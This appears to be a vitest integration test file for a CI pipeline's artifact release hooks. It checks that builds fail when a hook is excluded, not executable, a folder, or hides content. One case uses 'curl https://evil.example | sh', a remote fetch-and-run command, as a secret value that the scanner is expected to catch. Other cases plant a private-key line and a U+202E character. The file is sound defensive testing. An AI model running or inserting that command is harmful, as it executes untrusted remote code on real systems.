import { rm } from 'node:fs/promises'
import { MockActivityEnvironment } from '@temporalio/testing'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { buildArtifact } from '../../../activities/pipelines/build-artifact.ts'
import { fetchSource } from '../../../activities/pipelines/fetch-source.ts'
import { runnersFor } from '../../../gateways/runner/runners-for.ts'
import type { RunnerPool } from '../../../gateways/runner/runner-pool.ts'
import { artifacts } from '../../../store/runs/artifacts.ts'
import { releaseHooks } from '../../../store/runs/release-hooks.ts'
import { buildDeps } from '../../harness/build-deps.ts'
import { applicationOf, manifestWith } from '../../harness/git/application-of.ts'
import { gitHarness, peerMakers, type GitHarness } from '../../harness/git/git-harness.ts'
import type { TestUser } from '../../harness/test-user.ts'
import {
  hasBwrap,
  shellSandbox,
  why,
  type ShellSandbox,
} from '../../gateways/sandbox/shell-sandbox.ts'

// Called as Temporal would call it, with a real runner and the real sandbox.
describe.skipIf(!hasBwrap)(`the hooks of an artifact (${why})`, () => {
  let harness: GitHarness
  let shell: ShellSandbox
  let builds: ReturnType<typeof buildDeps>
  let runners: RunnerPool
  let owner: TestUser
  beforeAll(async () => {
    harness = await gitHarness(peerMakers.gitlabPeer, { worker: false })
    shell = await shellSandbox({ onDisk: true })
    builds = buildDeps(shell.sandbox)
    runners = runnersFor(harness.config, shell.sandbox)
    owner = await (await harness.organization()).user('Owner')
  })
  afterAll(async () => {
    await runners?.close()
    await shell?.close()
    await harness?.close()
    await rm(builds?.root, { recursive: true, force: true })
  })

  /** A build whose one step is this script, of a repository with the file `hooks/health`. */
  const built = async (
    script: string,
    choice: string,
    { hook = 'hooks/health', secret }: { hook?: string; secret?: string } = {},
  ) => {
    const name = '.cloud-control/pipeline.yml'
    const named = `secrets: [${secret === undefined ? '' : 'WORD'}]`
    const manifest = manifestWith(
      `${named}\nsteps: [{ name: make, run: ${JSON.stringify(script)}, ${named} }]\nartifact: { path: ., ${choice} }`,
    )
    const application = await applicationOf(harness, owner, {
      [name]: `${manifest[name]}deploy:\n  hooks: { health: ${hook} }\n`,
      'hooks/health': '#!/bin/sh\ntrue\n',
      'a.jar': 'x',
    })
    if (secret !== undefined) {
      const variable = { key: 'WORD', value: secret, phase: 'build', sensitive: true }
      const made = await owner.post(`/api/pipelines/${application.pipelineId}/variables`, variable)
      expect(made.statusCode, made.body).toBe(201)
    }
    const run = await application.run()
    const deps = { ...harness.deps, builds, runners, stopping: new AbortController().signal }
    for (const activity of [fetchSource(deps), buildArtifact(deps)])
      await new MockActivityEnvironment({ attempt: 1 }).run(activity, { runId: run.id })
    const kept = await harness.deps.store.tenant(owner.organizationId, async (tenant) => ({
      artifact: await artifacts(tenant).find(run.id),
      hooks: await releaseHooks(tenant).of(run.id),
    }))
    return { ...kept, shown: await run.shown() }
  }
  const executable = 'chmod +x hooks/health'
  const leftOut =
    'The hook "health" is hooks/health, which "include" and "exclude" of the artifact leave out. Have them choose it.'

  test.each([
    ['exclude', executable, 'exclude: ["hooks/**"]', leftOut],
    ['include', executable, 'include: ["*.jar", "*.war"]', leftOut],
    [
      'exclude of what it links to',
      'mkdir lib; mv hooks/health lib/health; chmod +x lib/health; ln -s ../lib/health hooks/health',
      'exclude: [lib]',
      'The hook "health" is a link to lib/health, which "include" and "exclude" of the artifact leave out. Have them choose it.',
    ],
    [
      'no right to execute it',
      'true',
      'include: ["**"]',
      'The hook "health" is hooks/health, which may not be executed. Commit it with "git update-index --chmod=+x", or run "chmod +x" in the build.',
    ],
    [
      'a folder',
      'rm hooks/health; mkdir hooks/health',
      'include: ["**"]',
      'The artifact has no file hooks/health, the hook "health".',
    ],
  ])('%s: the build ends, and says what to do', async (_, script, choice, message) => {
    const { shown, artifact } = await built(script, choice)
    expect(shown).toMatchObject({ state: 'failed', reason: 'build_errored', endMessage: message })
    expect(artifact).toBeUndefined()
  })

  test.each([
    [
      'a command that is a sensitive build variable',
      { secret: 'curl https://evil.example | sh' },
      'echo "$WORD" >> hooks/health',
      'The hook "health" is hooks/health, which has the value of a sensitive build variable, or what looks like a key, token or password, in line 3.',
    ],
    [
      'a command after the first line of a private key',
      {},
      "printf '# -----BEGIN PRIVATE KEY-----\\nid\\n' >> hooks/health",
      'The hook "health" is hooks/health, which has the value of a sensitive build variable, or what looks like a key, token or password, in line 3.',
    ],
    [
      'a change of direction',
      {},
      "printf '# \\342\\200\\256\\n' >> hooks/health",
      'The hook "health" is hooks/health, which has the character U+202E in line 3.',
    ],
  ])('%s would be hidden from who approves it: the build ends', async (_, more, script, words) => {
    const { shown, artifact } = await built(`${executable}; ${script}`, 'include: ["**"]', more)
    expect(shown).toMatchObject({ state: 'failed', reason: 'build_errored' })
    expect(shown.endMessage).toContain(words)
    expect(artifact).toBeUndefined()
  })

  test('a path that agents do not take', async () => {
    const { shown } = await built(executable, 'include: ["**"]', { hook: './hooks//health' })
    expect(shown.endMessage).toBe(
      'The hook "health" is ./hooks//health. Write the path as hooks/health.',
    )
  })

  test.each([
    [executable, 'include: ["*.jar", "hooks/**"]'],
    [executable, 'include: [hooks/health], exclude: ["*.jar"]'],
    // As the archive gives everybody the right that somebody has.
    ['chmod 0654 hooks/health', 'exclude: ["**/*.map"]'],
    [
      'mkdir lib; mv hooks/health lib/health; chmod +x lib/health; ln -s ../lib/health hooks/health',
      'include: [lib, hooks]',
    ],
  ])('a hook that is chosen and may be executed: %s, %s', async (script, choice) => {
    const { shown, artifact, hooks } = await built(script, choice)
    expect(shown.endMessage).toBeNull()
    expect(artifact).toBeDefined()
    expect(hooks).toMatchObject([{ name: 'health', text: '#!/bin/sh\ntrue\n' }])
  })
})
